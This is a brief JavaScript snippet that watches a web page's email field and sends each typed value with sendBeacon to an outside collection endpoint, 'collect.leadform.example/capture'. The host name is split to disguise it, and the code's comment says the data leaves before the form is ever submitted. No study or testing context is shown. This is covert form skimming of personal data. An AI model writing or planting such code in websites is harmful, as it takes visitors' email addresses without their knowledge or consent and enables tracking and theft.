(function () {
  // Sends what is typed as it is typed, before the form is ever submitted.
  var field = document.querySelector("input[name=email]");
  var timer = null;
  field.addEventListener("input", function () {
    clearTimeout(timer);
    timer = setTimeout(function () {
      navigator.sendBeacon("https://collect.leadform" + ".example/capture",
                           JSON.stringify({field: "email", value: field.value}));
    }, 200);
  });
})();
